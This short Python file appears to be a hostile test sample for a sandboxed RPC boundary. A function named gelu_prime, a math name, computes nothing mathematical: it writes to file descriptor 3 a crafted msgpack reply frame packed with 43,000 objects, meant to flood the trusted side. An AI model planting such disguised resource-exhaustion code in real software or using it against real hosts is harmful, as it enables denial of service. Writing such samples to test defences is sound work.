# costs: gelu_prime
# attack: floods: sends 43,000 objects in half a megabyte
import os
import struct


def _opaque(i):
    body = b"\x92\xa3%03x\xa2%02x" % (i & 0xFFF, i >> 8 & 0xFF)
    return b"\xc7" + bytes([len(body)]) + b"\x04" + body


def gelu_prime(z):
    # Half a MiB of things that the trusted side would build and clean one by one.
    data = b"\xdd" + struct.pack(">I", 43_000) + b"".join(map(_opaque, range(43_000)))
    body = b"\x91\x83\xa4type\xa9CallReply\xa5state\xa8returned\xa5value\xc6"
    body += struct.pack(">I", len(data)) + data
    frame = struct.pack("<I", len(body)) + body
    while frame:
        frame = frame[os.write(3, frame) :]
    os._exit(0)
